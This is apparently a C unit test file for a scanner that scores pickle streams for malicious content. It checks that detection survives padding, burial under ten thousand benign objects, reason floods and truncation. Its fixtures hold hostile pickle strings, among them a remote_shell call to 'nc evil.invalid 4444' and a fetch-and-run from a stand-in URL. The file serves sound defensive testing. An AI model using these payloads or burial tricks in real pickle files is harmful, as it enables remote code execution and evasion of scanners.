/* test_judge_padding.c - nothing that stands beside an attack hides it. */
#include "tests/unit/judge_bench.h"

/* Whatever stands beside an attack, and wherever: the score stays. */
static void nothing_that_is_added_lowers_a_score(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        double alone = judged(attacks[i], NULL).score;

        for (size_t j = 0; j < sizeof(harmless) / sizeof(harmless[0]); j++) {
            struct bench *b = bench_open();

            run(b, harmless[j].at, harmless[j].len);
            run(b, attacks[i].at, attacks[i].len);
            run(b, harmless[j].at, harmless[j].len);
            assert_true(bench_close(b, NULL).score >= alone);
        }
    }
}

/* `times` harmless objects made and dropped before the attack, in one stream. */
static struct piece buried(struct piece attack, struct piece filler, size_t times)
{
    size_t len = times * filler.len + attack.len;
    char *at = malloc(len);

    for (size_t i = 0; i < times; i++)
        memcpy(at + i * filler.len, filler.at, filler.len);
    memcpy(at + times * filler.len, attack.at, attack.len);
    return (struct piece){at, len};
}

static void an_attack_stays_one_under_ten_thousand_clean_objects(void **state)
{
    static const struct piece fillers[] = {
        P("ccollections\nOrderedDict\n)R0"),
        P("cmy.lib\nThing\n(S'x'\ntR0"),
        P("cmy.lib\n_rebuild\n(I1\ntR0"),
        P("cmy.lib\ncalc\n(S'x'\ntR0"),
    };

    (void)state;
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i += 3) {
        struct sg_report alone = judged(attacks[i], NULL);

        for (size_t j = 0; j < sizeof(fillers) / sizeof(fillers[0]); j++) {
            struct piece stream = buried(attacks[i], fillers[j], 10000);
            struct sg_report report = judged(stream, NULL);

            assert_true(report.score >= alone.score);
            assert_int_equal(report.verdict, SG_MALICIOUS);
            free((void *)stream.at);
        }
    }
}

/* Calls of what no table knows: what the model says of one stays, before, between and after ten
 * thousand others, also where the result is dropped only then. */
static void what_is_learned_of_a_call_stays_in_any_company(void **state)
{
    static const struct piece calls[] = {
        P("cnowhere.jobs\nremote_shell\n(S'nc evil.invalid 4444'\ntR."),
        P("cnowhere.jobs\nhandle\n(S'/tmp/a.sh'\ntR."),
        P("cnowhere.jobs\nfetch_and_start\n(S'http://x.invalid/a'\ntR0N."),
        P("cnowhere.jobs\n_ctor\n(I1\nI2\ntR."),
    };
    static const struct piece fillers[] = {
        P("ccollections\nOrderedDict\n)R0"),
        P("cmy.lib\nThing\n(S'x'\ntR0"),
        P("cmy.lib\n_rebuild\n(I1\ntR0"),
    };

    (void)state;
    for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
        double alone = judged(calls[i], NULL).score;

        for (size_t j = 0; j < sizeof(fillers) / sizeof(fillers[0]); j++) {
            struct piece before = buried(calls[i], fillers[j], 10000);
            struct piece inside = {calls[i].at, calls[i].len - 1};
            struct piece after = buried((struct piece)P("."), fillers[j], 10000);
            size_t len = inside.len + after.len;
            char *joined = malloc(len);

            memcpy(joined, inside.at, inside.len);
            memcpy(joined + inside.len, after.at, after.len);
            assert_true(judged(before, NULL).score >= alone);
            assert_true(judged((struct piece){joined, len}, NULL).score >= alone);
            free(joined);
            free((void *)before.at);
            free((void *)after.at);
        }
    }
}

static void look_at_flood(const struct sg_report *report)
{
    bool seen = false;

    assert_int_equal(report->reason_count, SG_REASONS_MAX);
    for (uint32_t i = 0; i < report->reason_count; i++)
        seen |= strstr(report->reasons[i].detail, "posix.system(\"touch x\")") != NULL;
    assert_true(seen);
}

static void a_flood_of_lesser_reasons_does_not_wash_out_the_worst(void **state)
{
    struct bench *b = bench_open();
    char text[64];

    (void)state;
    run(b, attacks[4].at, attacks[4].len);
    for (int i = 0; i < 2000; i++) {
        int len = snprintf(text, sizeof(text), "cmy.lib\ncalc%d\n(S'x'\ntR.", i);

        run(b, text, (size_t)len);
    }
    bench_close(b, look_at_flood);
}

/* What says little unless its stream calls something is kept for as long as that may come: many
 * streams before it, which have called nothing, took its place. */
static void what_is_held_for_streams_gone_by_makes_room(void **state)
{
    static const char odd[] = "I0x1\n0ccollections\nOrderedDict\n)R.", junk[] = "I1\0x\n.";
    double alone = judged((struct piece)P(odd), NULL).score;
    struct bench *b = bench_open();
    char member[16];

    (void)state;
    assert_true(alone >= 0.5);
    for (int i = 0; i < 100; i++) {
        snprintf(member, sizeof(member), "member %d", i);
        sg_judge_member(b->judge, member);
        run(b, junk, sizeof(junk) - 1);
    }
    sg_judge_member(b->judge, "odd");
    run(b, odd, sizeof(odd) - 1);
    assert_true(bench_close(b, NULL).score >= alone);
}

static void every_truncation_of_an_attack_is_judged_without_harm(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        double before = 0;

        for (size_t len = 1; len <= attacks[i].len; len++) {
            char *tight = malloc(len); /* so that reading past the end is seen */
            double score;

            memcpy(tight, attacks[i].at, len);
            score = judged((struct piece){tight, len}, NULL).score;
            assert_true(score >= 0 && score <= 1);
            before = score > before ? score : before;
            free(tight);
        }
        assert_true(before >= 0.9);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(nothing_that_is_added_lowers_a_score),
        cmocka_unit_test(an_attack_stays_one_under_ten_thousand_clean_objects),
        cmocka_unit_test(what_is_learned_of_a_call_stays_in_any_company),
        cmocka_unit_test(a_flood_of_lesser_reasons_does_not_wash_out_the_worst),
        cmocka_unit_test(what_is_held_for_streams_gone_by_makes_room),
        cmocka_unit_test(every_truncation_of_an_attack_is_judged_without_harm),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
